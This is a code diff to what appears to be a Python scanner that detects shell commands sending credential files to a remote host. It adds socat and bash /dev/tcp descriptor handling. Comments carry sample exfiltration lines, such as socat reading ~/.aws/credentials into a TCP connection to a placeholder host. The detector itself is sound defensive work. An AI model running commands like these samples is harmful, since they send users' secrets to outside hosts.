@@ -185,6 +185,7 @@ class Pipeline:
 
 
 _HEADERS = 16
+_SOCAT_FILES = frozenset({"FILE", "OPEN", "GOPEN", "CREATE"})
 
 
 def _variable(secret: str) -> bool:
@@ -310,6 +311,12 @@ def _sent_by(
         if len(found) >= 2 and _remote(found[-1]):
             return next((f for f in found[:-1] if is_credential(f.rstrip("/"))), None)
         return stdin if name == "sftp" else None
+    if name == "socat":  # socat -u FILE:$HOME/.aws/credentials TCP:h:9
+        for arg in args:
+            kind, colon, rest = arg.partition(":")
+            path = rest.partition(",")[0]
+            if colon and kind.upper() in _SOCAT_FILES and is_credential(path):
+                return path
     if name in ("http", "https", "xh"):
         for arg in args:
             path = arg.rpartition("@")[2] if "@" in arg else ""
@@ -333,7 +340,9 @@ def _sent_by(
 
 
 # bash's network files, opened on a descriptor (`exec 3<>/dev/tcp/h/80`) for a later `>&3`.
-_OPENED_SOCKET = re.compile(r"\bexec\s+([0-9]+)\s*(?:<>|>>?|>\|)\s*(/dev/(?:tcp|udp)/\S+)")
+_OPENED_SOCKET = re.compile(
+    r"\bexec\s+([0-9]+|\{\w+\})\s*(?:<>|>>?|>\|)\s*(/dev/(?:tcp|udp)/[^\s;&|]+)"
+)
 
 
 def socket_redirects(line: str) -> str:
@@ -343,7 +352,11 @@ def socket_redirects(line: str) -> str:
     if "/dev/tcp/" not in line and "/dev/udp/" not in line:
         return line
     for fd, address in dict(_OPENED_SOCKET.findall(line)).items():
-        duplicate = re.compile(r"(?<![0-9<])[0-9]?>&\s*" + fd + r"(?![0-9])")
+        if fd.startswith("{"):  # exec {fd}<>/dev/tcp/h/80; … >&$fd
+            target = r"\$\{?" + re.escape(fd[1:-1]) + r"\}?(?!\w)"
+        else:
+            target = fd + r"(?![0-9])"
+        duplicate = re.compile(r"(?<![0-9<])[0-9]?>&\s*" + target)
         line = duplicate.sub(" >" + address.replace("\\", "\\\\"), line)
     return line
 
